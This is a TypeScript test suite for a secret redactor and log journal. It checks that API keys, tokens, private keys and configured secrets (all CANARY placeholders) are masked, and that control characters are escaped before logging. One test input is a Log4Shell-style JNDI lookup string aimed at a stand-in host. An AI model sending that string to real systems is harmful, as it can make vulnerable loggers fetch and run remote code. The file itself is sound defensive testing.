import { ChatError } from '@millrace/protocol'
import { describe, expect, test } from 'vitest'
import { recordingLogger } from '../fixtures/recordingLogger.ts'
import { createJournal } from '../route/createJournal.ts'
import { createRedactor } from './createRedactor.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const base64url = (text: string): string => Buffer.from(text).toString('base64url')

describe('a key that looks like one', () => {
  const redact = createRedactor()

  test.each([
    'sk-CANARY0123456789abcdef',
    'sk-proj-CANARY_0123-456789abcdefT3BlbkFJ0123456789',
    'sk-svcacct-CANARY0123456789',
    'sk-ant-api03-CANARY_0123-456789AA',
    'sk-or-v1-CANARY0123456789',
    'sk-CANARY********cdef',
    'sk-CANARY...cdef',
    'csk-CANARY0123456789',
    'gsk_CANARY0123456789',
    'AIzaSyCANARY0123456789-_abcdefghijklmno',
    'AKIACANARY0123456789',
    'xai-CANARY0123456789',
    'hf_CANARY0123456789',
    'nvapi-CANARY0123456789',
    'ya29.CANARY0123456789',
    'Bearer CANARY.0123~456/789+abc==',
    'bearer   CANARY0123456789',
    'Bearer%20CANARY0123456789',
    'eyJhbGciOiJIUzI1NiJ9.eyJDQU5BUlkiOjF9CANARY.CANARY0123',
    `eyJhbGciOiJIUzI1NiJ9.eyJ${'a'.repeat(5000)}CANARY.CANARY0123`,
    '-----BEGIN PRIVATE KEY-----\nCANARY\n-----END PRIVATE KEY-----',
    '-----BEGIN RSA PRIVATE KEY-----\\nCANARY',
  ])('is masked wherever it stands: %.40s (T-67)', (key) => {
    const around = [
      ['', ''],
      ['Wrong key ', '.'],
      ['"', '"'],
      ['key_', ' '],
      ['x:\\n', '\\n'],
      ['\\u000a', '\\u000a'],
      ['%3D', '%26'],
      ['\u001b[31m', '\u001b[0m'],
      ['(', ')'],
      ['键', '键'],
    ]
    for (const [before, after] of around) {
      expect(redact(`${before}${key}${after}`), before).not.toContain('CANARY')
    }
  })

  test.each([
    '{"api-key":"CANARY0123"}',
    '{"body":"{\\"api_key\\":\\"CANARY0123\\"}"}',
    'x-api-key: CANARY0123',
    'apiKey=CANARY0123',
    'client_secret=CANARY0123&grant=x',
    'access_token%3DCANARY0123',
    'Authorization: Basic CANARY0123456',
    '"authorization":"Token CANARY0123456"',
    'GET https://vendor.example/v1?alt=sse&key=CANARY0123',
    'password: "CANARY0123"',
  ])('is masked by the name it goes by: %s (T-67)', (text) => {
    expect(redact(text)).not.toContain('CANARY')
  })

  test('is masked in what fetch says of a header (T-67)', () => {
    let message = ''
    try {
      new Headers({ 'api-key': 'CANARY0123\nCANARY' })
    } catch (error) {
      message = String(error)
    }
    expect(message).toContain('CANARY')
    expect(redact(message)).not.toContain('CANARY')
  })

  test.each([
    'task-management and risk-assessment-of-the-disk-usage',
    'maximum context length is 2000 tokens, you requested 4000 tokens',
    'connect ECONNREFUSED 127.0.0.1:11434',
    'max_tokens: 100000000, total_tokens=123456789',
    'https://vendor.example/v1/chat/completions?stream=true',
    'sk-1, sk-learn, Bearer of news',
    'Please sign in to use this chat.',
  ])('is not seen where none is: %s', (text) => {
    expect(redact(text)).toBe(text)
  })
})

describe('a configured secret', () => {
  const secret = 'p+ss/w"rd \\ÄÖ!*(CANARY)~%'
  const redact = createRedactor([secret])
  // Any two letters of it in a row are found.
  const readable = (text: string): boolean => /CANARY|Q0FOQVJZ|%43ANARY/.test(text)

  test.each([
    ['as it is', secret],
    ['in an address', encodeURIComponent(secret)],
    [
      'in an address, in small letters',
      encodeURIComponent(secret).replace(/%../g, (x) => x.toLowerCase()),
    ],
    ['in a form', String(new URLSearchParams({ key: secret }))],
    ['in JSON', JSON.stringify({ secret })],
    ['in JSON within JSON', JSON.stringify({ body: JSON.stringify({ secret }) })],
    ['in JSON with slashes escaped', JSON.stringify(secret).replaceAll('/', '\\/')],
  ])('is masked %s (T-67)', (_, text) => {
    expect(readable(text)).toBe(true)
    const masked = redact(`before ${text} after`)
    expect(readable(masked)).toBe(false)
    expect(masked).toMatch(/^before .*\[redacted\].* after$/)
  })

  test('is masked in base64 of either alphabet, whatever stands before and after it (T-67)', () => {
    const plain = 'a-secret-of-?>~-CANARY-letters'
    const redactPlain = createRedactor([plain])
    for (const before of ['', 'u', 'us', 'use', 'user:', 'ab:cd:']) {
      for (const after of ['', '!', '!!', '!!!']) {
        for (const encode of [base64, base64url]) {
          const masked = redactPlain(`Basic ${encode(before + plain + after)} end`)
          const left = masked.replace('[redacted]', '').replace(/^Basic /, '')
          // What is left decodes to no two letters of it.
          expect(left, masked).toMatch(/^[\w+/=-]{0,15} end$/)
          expect(masked).toContain('[redacted]')
        }
      }
    }
  })

  test('is masked with and without the line end it was configured with (T-67)', () => {
    expect(createRedactor(['CANARY-0123\n'])('key CANARY-0123, key CANARY-0123\n')).toBe(
      'key [redacted], key [redacted]',
    )
  })

  test('is masked whole where two overlap or one holds the other (T-67)', () => {
    const both = createRedactor(['secret-one', 'one-CANARY', 'one-CANARY-and-more'])
    expect(both('a secret-one-CANARY-and-more b')).toBe('a [redacted] b')
    expect(createRedactor(['aXa'])('aXaXa')).toBe('[redacted]')
    expect(createRedactor(['CANARY-abc'])('sk-12345678CANARY-abc')).toBe('[redacted]')
  })

  test('of nothing masks nothing, and one that is short masks only itself', () => {
    expect(createRedactor(['', ' \n', undefined as unknown as string])('a b c')).toBe('a b c')
    expect(createRedactor(['x7'])(`x7 eDc= ${base64('x7')}`)).toBe(
      `[redacted] eDc= ${base64('x7')}`,
    )
  })

  test('with half a character in it breaks nothing', () => {
    expect(createRedactor(['CANARY\ud83d!'])('a CANARY\ud83d! b')).toBe('a [redacted] b')
  })
})

describe('text on its way to a log', () => {
  test('moves no cursor, ends no line, turns no direction (T-68)', () => {
    const text = 'a\r\nb\u001b[2Jc\u0085\u009b1md\u2028e\u2029f\u202eg\u2066h\u061ci\u0000j\u007f'
    expect(createRedactor()(text)).toBe(
      'a\\u000d\\u000ab\\u001b[2Jc\\u0085\\u009b1md\\u2028e\\u2029f\\u202eg\\u2066h\\u061ci\\u0000j\\u007f',
    )
  })

  test('keeps what people write', () => {
    const text = 'Grüße, 流式 👩‍💻 — «да» ${jndi:ldap://evil.example/a}'
    expect(createRedactor()(text)).toBe(text)
  })

  test.each([
    ['a key without an end', `sk-${'a-'.repeat(50_000)}`],
    ['beginnings of keys', 'sk-'.repeat(50_000)],
    ['beginnings of tokens', 'eyJaaaaaaaa-'.repeat(10_000)],
    ['beginnings of keys to a door', '-----BEGIN PRIVATE KEY-----'.repeat(5000)],
    ['spaces', `Bearer${' '.repeat(100_000)}api key${' '.repeat(100_000)}`],
    ['names without a value', 'api-key:'.repeat(20_000)],
    ['headers without an end', 'Headers.append: "'.repeat(10_000)],
    ['quotes and backslashes', 'password\\\\\\"'.repeat(10_000)],
    ['letters', 'authorization'.repeat(10_000)],
  ])('is looked through in time: %s', (_, text) => {
    const from = performance.now()
    createRedactor(['a-secret-0123456789'])(text)
    expect(performance.now() - from).toBeLessThan(2000)
  })
})

describe('a record of a failure', () => {
  const secret = 'CANARY-0123456789-CANARY'

  test('is cut after it was redacted: no beginning of a key is left over (T-67, T-68)', () => {
    const { loggable } = createJournal(recordingLogger(), { secrets: [secret] })
    for (let before = 4060; before <= 4100; before++) {
      const line = loggable(new Error(`${'x '.repeat(before / 2)}${secret} sk-${secret}`))
      expect(line.length).toBeLessThanOrEqual(4096)
      expect(line).not.toMatch(/CAN|sk-/)
    }
    expect(loggable('👩'.repeat(5000))).toBe('👩'.repeat(2048))
    expect(loggable(`x${'👩'.repeat(5000)}`)).toBe(`x${'👩'.repeat(2047)}`)
  })

  test('holds nothing of the upstream as it came (T-67, T-68)', () => {
    const logger = recordingLogger()
    const journal = createJournal(logger, { secrets: [secret] })
    const error = new ChatError('auth', 'The provider refused.', {
      requestId: `req\u001b[2J${secret}`,
      cause: { headers: { authorization: `Bearer ${secret}` }, text: `a\nb ${secret}` },
    })
    journal.failed(error, { chatId: 'c', provider: 'p', model: 'm' })
    const summary = new ChatError('unknown', `No summary: ${secret}\n`, { cause: secret })
    journal.notSummarized('c', summary)
    const texts = logger.records.flatMap((record) => Object.values(record)).map(String)
    expect(texts.filter((text) => text.includes('[redacted]'))).toHaveLength(4)
    for (const text of texts) expect(text).not.toMatch(/CANARY|\p{Cc}/u)
  })
})
